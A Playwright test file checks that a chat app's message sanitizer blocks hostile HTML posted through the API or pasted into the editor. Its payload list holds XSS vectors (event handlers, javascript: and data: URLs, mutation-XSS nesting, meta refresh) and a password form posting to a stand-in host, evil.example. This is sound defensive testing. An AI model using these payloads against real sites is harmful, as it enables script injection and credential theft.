import { expect, Person, test } from "./people";
import { Server } from "./server";

let server: Server;
test.beforeEach(async () => {
  server = await Server.start();
});
test.afterEach(() => server.stop());

const elsewhere = "http://evil.example";
const hostile = [
  `<script>window.hacked = 1</script>`,
  `<img src="x" onerror="window.hacked = 2">`,
  `<img src="${elsewhere}/pixel.png">`,
  `<svg onload="window.hacked = 3"><script>window.hacked = 4</script></svg>`,
  `<a href="javascript:window.hacked = 5">press me</a>`,
  `<a href="data:text/html,<script>window.hacked = 6</script>">or me</a>`,
  `<a href=" java&#x09;script:window.hacked = 7">or me too</a>`,
  `<iframe src="${elsewhere}/frame"></iframe><object data="${elsewhere}/object"></object>`,
  `<iframe srcdoc="<script>parent.hacked = 8</script>"></iframe>`,
  `<style>@import "${elsewhere}/style.css"; body { display: none }</style>`,
  `<link rel="stylesheet" href="${elsewhere}/style.css"><meta http-equiv="refresh" content="0;url=${elsewhere}">`,
  `<base href="${elsewhere}/">`,
  `<form action="${elsewhere}/form"><input name="password"><button>Sign in</button></form>`,
  `<div style="background: url(${elsewhere}/background.png); position: fixed; inset: 0">covers all</div>`,
  `<video src="${elsewhere}/video" autoplay onloadstart="window.hacked = 9"></video>`,
  `<details open ontoggle="window.hacked = 10"><summary>x</summary></details>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="window.hacked = 11"></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=window.hacked=12>"></noscript>`,
  `<span class="mention" data-user-id="1" onclick="window.hacked = 13">@Ada</span>`,
  `<div id="root" class="flash" data-testid="flash">not ours</div>`,
  `<trix-editor input="x"></trix-editor><trix-toolbar></trix-toolbar>`,
];

test("hostile markup posted through the API does not run, load or leave", async ({ browser }) => {
  const token = await server.setUp();
  const roomId = await server.room(token);
  for (const [at, html] of hostile.entries()) {
    await server.post(token, roomId, { html: `${html}<p>number ${at}</p>` });
    await server.post(token, roomId, { text: `as text ${at}: ${html}` });
  }

  const ada = await Person.arrive(browser, server, token);
  const outside: string[] = [];
  ada.page.on("request", (request) => {
    if (!request.url().startsWith(server.url)) outside.push(request.url());
  });
  await ada.page.route(`${elsewhere}/**`, (route) => route.abort());
  await ada.visit(`/rooms/${roomId}`);
  await expect(ada.message(`number ${hostile.length - 1}`)).toBeVisible();
  await server.post(token, roomId, { html: `${hostile.join("")}<p>all at once, live</p>` });
  await expect(ada.message("all at once, live")).toBeVisible();
  for (const link of await ada.message("press me").getByText("press me").all()) await link.click();
  await ada.message("all at once, live").getByTestId("message-body").hover();
  await ada.page.waitForTimeout(500);

  expect(await ada.page.evaluate(() => (window as { hacked?: number }).hacked)).toBeUndefined();
  expect(outside).toEqual([]);
  await expect(ada.page).toHaveURL(`${server.url}/rooms/${roomId}`);
  const strange = await ada.list.evaluate((list) => {
    const bodies = [...list.querySelectorAll("[data-testid=message-body]")];
    const all = bodies.flatMap((body) => [...body.querySelectorAll("*")]);
    const words =
      "script style img svg iframe object link meta base form input button video math trix-editor".split(" ");
    // The picture in a mention is ours, and leads to the person.
    const ours = (e: Element) =>
      e.closest(".mention > .avatar") !== null &&
      /^\/users\/\d+(\/avatar)?$/.test(e.getAttribute("src") ?? e.getAttribute("href") ?? "");
    return all
      .filter((e) => !ours(e))
      .filter((e) => {
        const attributes = e.getAttributeNames();
        const scripted = attributes.some(
          (name) => name.startsWith("on") || ["style", "id", "data-testid"].includes(name),
        );
        const href = e.getAttribute("href");
        return words.includes(e.localName) || scripted || (href !== null && !/^(https?:|mailto:)/.test(href));
      })
      .map((e) => e.outerHTML);
  });
  expect(strange).toEqual([]);

  // As text, markup is only characters.
  await expect(ada.message("as text 20:")).toContainText("<trix-editor");
});

test("hostile markup that someone pastes does not run while it is pending", async ({ browser }) => {
  const token = await server.setUp();
  const ada = await Person.arrive(browser, server, token);
  ada.expectRefusal(/ERR_FAILED.*PostMessage|Content Security Policy|failed: csp/); // the second wall holds too
  await ada.page.route("**/campfire.v1.MessageService/PostMessage", (route) => route.abort());
  await ada.visit("/");
  await expect(ada.composer).toHaveAttribute("data-ready", "");
  // What Trix does with HTML on the clipboard. A real clipboard would have been cleaned by the browser already.
  await ada.composer.evaluate(
    (element, html) =>
      (element as unknown as { editor: { insertHTML(html: string): void } }).editor.insertHTML(html),
    `<b>bold</b> and ${hostile.slice(0, 7).join("")}`,
  );
  await expect(ada.composer).toContainText("bold");
  await ada.composer.press("Enter");
  const pending = ada.page.locator(".message--pending");
  await expect(pending).toContainText("bold");
  const body = pending.getByTestId("message-body");
  await expect(body.locator("strong")).toHaveText("bold");
  expect(await body.locator("img, script, svg, a[href^=javascript]").count()).toBe(0);
  expect(await ada.page.evaluate(() => (window as { hacked?: number }).hacked)).toBeUndefined();
});
